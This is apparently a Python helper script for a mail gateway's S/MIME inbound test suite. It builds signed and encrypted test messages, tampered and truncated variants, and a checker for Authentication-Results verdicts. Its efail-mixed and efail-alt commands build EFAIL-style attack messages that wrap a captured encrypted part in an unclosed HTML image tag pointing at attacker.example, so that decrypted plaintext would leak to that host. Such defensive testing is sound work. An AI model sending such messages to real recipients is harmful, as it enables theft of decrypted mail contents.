#!/usr/bin/env python3
"""smime_in - builds the incoming test messages of t/smime-inbound.sh around
what the S/MIME producers (openssl cms, gpgsm, NSS cmsutil, Bouncy Castle)
made. Independent of the C code under test: bytes and base64 only.
Every output has CRLF line ends, as mail has on the wire.

  crlf IN OUT                 IN with every line end made CRLF
  entity IN OUT               the MIME entity of a message: its Content-*
                              header fields (folded lines kept), the empty
                              line and the body, exact bytes
  wrap IN OUT [FROM]          a message: From/To/Subject/Date/Message-ID,
                              then IN (an entity: its own header fields,
                              empty line, body)
  p7m DER OUT TYPE [x]        an application/pkcs7-mime entity (smime-type
                              TYPE; x: the legacy application/x-pkcs7-mime)
  signed DATA SIG OUT [x]     a multipart/signed entity: DATA (an entity,
                              exact bytes) and the DER signature SIG
  b64entity IN OUT            IN (an entity with a binary body) as the
                              reader gets it once unwrapped: its
                              Content-Type, then the body in base64
  tamper IN OUT OLD NEW       IN with the first OLD replaced by NEW
  efail-mixed ENC OUT         an attacker's multipart/mixed: HTML, the
                              captured encrypted entity ENC, HTML
  efail-alt ENC OUT           the same as multipart/alternative
  list SIGNED OUT             a mailing list's multipart/mixed: the signed
                              entity SIGNED and a footer part
  truncate IN OUT             IN with the second half of its body's lines
                              cut (what is left is valid base64)
  check SINKDIR TABLE AUTHSERV   for each line "CASE VERDICT SENT WANT" of
                              TABLE: the message smtp-sink stored with
                              X-Test-Case: CASE carries our
                              Authentication-Results smime=VERDICT
                              and one X-Gatewarden-SMIME result=VERDICT
                              ("untouched": none of ours) and its entity
                              equals WANT's ("-": body and Content-Type as
                              SENT had them), line ends aside; prints
                              "PASS CASE" or "FAIL CASE: why" per line
"""
import base64
import sys


def load(path):
    with open(path, 'rb') as f:
        return f.read()


def save(path, data):
    with open(path, 'wb') as f:
        f.write(data)


def crlf(data):
    return data.replace(b'\r\n', b'\n').replace(b'\n', b'\r\n')


def split_head(data):
    i = data.find(b'\r\n\r\n')
    return data[:i + 2], data[i + 4:]


def header_fields(head):
    fields, cur = [], b''
    for line in head.split(b'\r\n'):
        if line[:1] in (b' ', b'\t'):
            cur += b'\r\n' + line
            continue
        if cur:
            fields.append(cur)
        cur = line
    if cur:
        fields.append(cur)
    return fields


def entity(src):
    return entity_bytes(crlf(load(src)))


OUTER = (b'From: Sender <%s>\r\nTo: Alice <alice@partner.test>\r\n'
         b'Subject: inbound test\r\nDate: Wed, 25 Nov 2026 10:00:00 +0000\r\n'
         b'Message-ID: <in-test@example.org>\r\n')


def wrap(src, frm=b'sender@example.org'):
    return OUTER % frm + crlf(load(src))


def b64lines(der):
    s = base64.b64encode(der)
    return b''.join(s[i:i + 76] + b'\r\n' for i in range(0, len(s), 76))


def p7m(der, smime_type, legacy=False):
    t = b'application/x-pkcs7-mime' if legacy else b'application/pkcs7-mime'
    return (b'Content-Type: ' + t + b'; smime-type=' + smime_type +
            b'; name="smime.p7m"\r\nContent-Transfer-Encoding: base64\r\n'
            b'Content-Disposition: attachment; filename="smime.p7m"\r\n\r\n' +
            b64lines(der))


def signed(data, sig, legacy=False):
    proto = (b'application/x-pkcs7-signature' if legacy else
             b'application/pkcs7-signature')
    b = b'----=_smime_in_test_boundary_42'
    return (b'Content-Type: multipart/signed; protocol="' + proto +
            b'"; micalg=sha-256; boundary="' + b + b'"\r\n\r\n'
            b'This is an S/MIME signed message\r\n\r\n--' + b + b'\r\n' +
            data + b'\r\n--' + b + b'\r\nContent-Type: ' + proto +
            b'; name="smime.p7s"\r\nContent-Transfer-Encoding: base64\r\n'
            b'Content-Disposition: attachment; filename="smime.p7s"\r\n\r\n' +
            b64lines(sig) + b'\r\n--' + b + b'--\r\n')


def around(enc, subtype):
    b = b'efail-boundary'
    return (b'Content-Type: multipart/' + subtype + b'; boundary="' + b +
            b'"\r\n\r\n--' + b + b'\r\nContent-Type: text/html\r\n\r\n'
            b'<img src="http://attacker.example/\r\n--' + b + b'\r\n' +
            crlf(load(enc)).rstrip(b'\r\n') + b'\r\n--' + b +
            b'\r\nContent-Type: text/html\r\n\r\n">\r\n--' + b + b'--\r\n')


def mailing_list(signed_entity):
    b = b'list-boundary'
    return (b'Content-Type: multipart/mixed; boundary="' + b + b'"\r\n\r\n'
            b'--' + b + b'\r\n' + crlf(load(signed_entity)).rstrip(b'\r\n') +
            b'\r\n--' + b + b'\r\nContent-Type: text/plain\r\n\r\n'
            b'_______________________________________________\r\n'
            b'partners mailing list\r\n--' + b + b'--\r\n')


def sink_message(path):
    """The message of an smtp-sink dump: its X-* records and its own
    Received header dropped, line ends CRLF."""
    lines = load(path).replace(b'\r\n', b'\n').split(b'\n')
    i = 0
    while i < len(lines) and lines[i].startswith(b'X-') and \
            not lines[i].startswith(b'X-Test-Case:'):
        i += 1
    if i < len(lines) and lines[i].startswith(b'Received:'):
        i += 1
        while i < len(lines) and lines[i][:1] in (b' ', b'\t'):
            i += 1
    return crlf(b'\n'.join(lines[i:]))


def norm(data):
    return data.replace(b'\r\n', b'\n').rstrip(b'\n')


def field(head, name):
    for f in header_fields(head):
        if f.lower().startswith(name.lower() + b':'):
            return f
    return None


def check(sinkdir, table, authserv):
    import glob
    found = {}
    for path in glob.glob(sinkdir + '/*'):
        msg = sink_message(path)
        head, _ = split_head(msg)
        case = field(head, b'X-Test-Case')
        if case is not None:
            found.setdefault(case.split(b':', 1)[1].strip().decode(),
                             []).append(msg)
    bad = 0
    for line in open(table):
        if not line.strip():
            continue
        case, verdict, sent, want = line.split()
        msgs = found.get(case, [])
        if len(msgs) != 1:
            print('FAIL %s: %d copies delivered' % (case, len(msgs)))
            bad += 1
            continue
        head, body = split_head(msgs[0])
        ours = [f for f in header_fields(head)
                if f.lower().startswith(b'authentication-results:') and
                f.split(b':', 1)[1].strip().startswith(authserv.encode())]
        why = None
        if verdict == 'untouched':
            if ours:
                why = 'has our Authentication-Results'
        elif len(ours) != 1:
            why = '%d Authentication-Results of ours' % len(ours)
        elif (b'smime=' + verdict.encode() + b' ') not in ours[0]:
            why = 'got %r' % ours[0]
        gw = [f for f in header_fields(head)
              if f.lower().startswith(b'x-gatewarden-smime:')]
        if why is not None:
            pass
        elif verdict == 'untouched' and gw:
            why = 'has X-Gatewarden-SMIME'
        elif verdict != 'untouched' and (len(gw) != 1 or (
                b'result=' + verdict.encode()) not in gw[0]):
            why = 'X-Gatewarden-SMIME: %r' % gw
        if why is None and want == '-':
            shead, sbody = split_head(crlf(load(sent)))
            if norm(body) != norm(sbody):
                why = 'body changed'
            elif field(head, b'Content-Type') != field(shead, b'Content-Type'):
                why = 'Content-Type changed'
        elif why is None and norm(entity_bytes(msgs[0])) != \
                norm(crlf(load(want))):
            why = 'entity differs from ' + want
        print('FAIL %s: %s' % (case, why) if why else 'PASS ' + case)
        bad += why is not None
    return bad


def entity_bytes(msg):
    head, body = split_head(msg)
    keep = [f for f in header_fields(head)
            if f.lower().startswith(b'content-')]
    return b''.join(f + b'\r\n' for f in keep) + b'\r\n' + body


def main():
    cmd, a = sys.argv[1], sys.argv[2:]
    if cmd == 'crlf':
        save(a[1], crlf(load(a[0])))
    elif cmd == 'entity':
        save(a[1], entity(a[0]))
    elif cmd == 'wrap':
        save(a[1], wrap(a[0], *(x.encode() for x in a[2:])))
    elif cmd == 'p7m':
        save(a[1], p7m(load(a[0]), a[2].encode(), len(a) > 3))
    elif cmd == 'signed':
        save(a[2], signed(crlf(load(a[0])), load(a[1]), len(a) > 3))
    elif cmd == 'b64entity':
        head, body = split_head(load(a[0]))
        save(a[1], field(head, b'Content-Type') + b'\r\n'
             b'Content-Transfer-Encoding: base64\r\n\r\n' + b64lines(body))
    elif cmd == 'tamper':
        data = load(a[0])
        old, new = a[2].encode(), a[3].encode()
        if old not in data:
            sys.exit('tamper: %r not found' % old)
        save(a[1], data.replace(old, new, 1))
    elif cmd in ('efail-mixed', 'efail-alt'):
        save(a[1], around(a[0], b'mixed' if cmd == 'efail-mixed'
                          else b'alternative'))
    elif cmd == 'list':
        save(a[1], mailing_list(a[0]))
    elif cmd == 'check':
        check(*a)
    elif cmd == 'truncate':
        head, body = split_head(load(a[0]))
        lines = body.split(b'\r\n')
        save(a[1], head + b'\r\n' + b'\r\n'.join(lines[:len(lines) // 2]) +
             b'\r\n')
    else:
        sys.exit('unknown command ' + cmd)


if __name__ == '__main__':
    main()
